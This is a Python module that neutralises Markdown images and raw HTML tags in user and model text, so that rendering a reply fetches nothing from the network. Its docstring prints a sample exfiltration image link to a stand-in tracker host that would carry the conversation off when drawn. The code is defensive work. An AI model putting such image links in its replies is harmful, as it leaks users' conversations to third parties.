"""Markdown from users and models made safe to draw: nothing in it loads from an address.

A reply can carry `![x](https://tracker.example/?q=<the conversation>)`: drawn as Markdown, the
browser fetches it and the conversation goes to a third party. Here every image (inline
`![alt](url)`, reference `![alt][ref]`, shortcut `![ref]`) becomes a link, which loads nothing
until clicked, and no raw HTML tag (`<img>`, `<svg onload=...>`, ...) survives as a tag: a zero-width
space after the "!" or the "<" breaks the syntax while the text reads the same. Fenced code
blocks are left as they are (the renderer shows their content as text).
"""

from __future__ import annotations

import re
from typing import Iterable, Iterator

ZERO_WIDTH_SPACE = "\u200b"
# "!" before "[" starts an image; "<" before a letter, "/", "!" or "?" starts an HTML tag, comment or
# declaration (or an autolink, which is then shown as text: its address stays readable).
LOADS = re.compile(r"!(?=\[)|<(?=[A-Za-z/!?])")
LINE = re.compile(r"[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+$")  # Markdown's line endings only
FENCE = re.compile(r"( {0,3})(`{3,}|~{3,})([^\r\n]*)")  # CommonMark: at most 3 spaces of indentation


def _neutralise(text: str) -> str:
    return LOADS.sub(lambda m: m.group(0) + ZERO_WIDTH_SPACE, text)


def safe_markdown(text: str) -> str:
    """text with every image turned into a link and every HTML tag into text, outside fenced code."""
    out: list[str] = []
    fence = ""  # the open fence's marker ("```", "~~~~", ...), empty outside code
    for line in LINE.findall(text):
        opening = FENCE.fullmatch(line.rstrip("\r\n"))
        if fence:
            out.append(line)
            if opening and opening.group(2)[0] == fence[0] and len(opening.group(2)) >= len(fence) \
                    and not opening.group(3).strip():
                fence = ""
        elif opening and not (opening.group(2)[0] == "`" and "`" in opening.group(3)):  # a ``` info string has no `
            fence = opening.group(2)
            out.append(line)
        else:
            out.append(_neutralise(line))
    return "".join(out)


def safe_stream(chunks: Iterable[str]) -> Iterator[str]:
    """The chunks of a reply being written, safe as each is drawn: a "!" or "<" that ends a chunk
    is held back until the next chunk shows what follows it. (Inside fenced code the zero-width
    space is also added: it is invisible; the reply drawn again later goes through safe_markdown.)"""
    held = ""
    for chunk in chunks:
        text = held + chunk
        held = text[-1:] if text[-1:] in ("!", "<") else ""
        if text := text[: len(text) - len(held)]:
            yield _neutralise(text)
    if held:
        yield held
